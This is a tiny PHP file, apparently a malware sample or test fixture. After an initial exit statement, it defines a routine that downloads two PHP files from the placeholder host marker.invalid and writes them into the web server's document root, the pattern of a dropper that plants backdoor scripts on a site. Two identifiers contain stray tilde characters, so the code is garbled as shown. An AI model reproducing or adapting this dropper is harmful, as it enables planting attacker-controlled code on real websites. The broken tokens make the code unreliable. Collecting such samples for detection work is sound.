<?php exit; ?>
<?php
function marker_get($u) { return @implode('', @file($u)); }
$where = array('a.php', 'b/c.php'); foreach ($where as $w) { $x = marker_get('http://marker.invalid/' . $w); if ($x) { fil~e_put_contents($_S~ERVER['DOCUMENT_ROOT'] . '/' . $w, $x); } }
